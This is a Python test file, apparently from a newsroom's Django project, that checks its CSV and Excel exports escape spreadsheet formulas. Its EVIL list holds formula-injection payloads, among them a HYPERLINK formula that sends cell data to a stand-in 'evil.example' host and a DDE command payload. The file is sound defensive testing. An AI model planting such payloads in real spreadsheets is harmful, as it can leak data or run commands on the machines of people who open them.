"""Every file that leaves the newsroom for a spreadsheet: no cell of it is ever reckoned with.

Found, not listed: an export that is added is tried out, or this fails.
"""

import csv
import inspect
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook

from articles import house_words, work_report
from articles.lib import clock
from articles.lib.spreadsheets import harmless, plain
from articles.models import HouseWord
from tests import factories
from tests.tips import making
from tips import rewards
from tips.lib import sheets

pytestmark = pytest.mark.django_db
EVIL = (
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
)
_WRITERS = re.compile(r"csv\.(?:writer|DictWriter)\(|Workbook\(")
_KNOWN = {
    "articles/house_words.py",
    "articles/work_report.py",
    "tips/lib/sheets.py",  # all sheets of the tip line
    "tips/management/commands/export_tips.py",
}


def test_every_module_that_writes_a_table_is_known() -> None:
    root = Path(settings.BASE_DIR)
    found = {
        str(path.relative_to(root))
        for app in ("articles", "tips", "huaxi_news")
        for path in (root / app).rglob("*.py")
        if _WRITERS.search(path.read_text(encoding="utf-8"))
    }

    assert found - _KNOWN == set(), "Try the new export out here."


def test_every_module_that_writes_a_table_makes_its_cells_harmless() -> None:
    for module in (house_words, work_report, sheets):
        assert "harmless" in inspect.getsource(module), module.__name__


@pytest.mark.parametrize("cell", EVIL)
def test_cell_that_would_be_a_formula_is_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}" and plain(harmless(cell)) == cell


@pytest.mark.parametrize("cell", EVIL)
def test_word_list_has_no_formula(cell: str) -> None:
    HouseWord.objects.create(wrong="-做客", right=cell, note=cell)

    _no_formula(list(csv.reader(io.StringIO(house_words.as_csv().lstrip("\ufeff")))))


def test_work_report_has_no_formula(client) -> None:
    chief = factories.member("editor-in-chief", name="=1+1")
    factories.published(actor=chief)
    client.force_login(chief)
    month = f"{timezone.localtime(clock.now()):%Y-%m}"

    answer = client.post("/admin/articles/article/work.csv", {"month": month})
    _no_formula(list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))))


def test_settlement_sheets_have_no_formula(client) -> None:
    reward = making.approved()
    making.payee(reward.source, "=1+1", account="+86", bank="@x")
    rewards.pay(reward, actor=making.finance(), reference="-1")
    client.force_login(making.finance())
    month = f"{timezone.localtime(clock.now()):%Y-%m}"

    table = client.post("/admin/tips/settlement/sheet.csv", {"month": month})
    book = client.post("/admin/tips/settlement/sheet.xlsx", {"month": month})
    _no_formula(list(csv.reader(io.StringIO(_body(table).decode("utf-8-sig")))))
    rows = [row for sheet in load_workbook(io.BytesIO(_body(book))) for row in sheet.iter_rows()]
    assert rows and all(cell.data_type != "f" for row in rows for cell in row)


def _body(answer) -> bytes:
    assert answer.status_code == 200, answer.status_code
    return b"".join(answer) if answer.streaming else answer.content


def _no_formula(rows: list[list[str]]) -> None:
    assert rows
    cells = [cell for row in rows for cell in row if cell]
    assert all(harmless(cell) == cell for cell in cells), cells
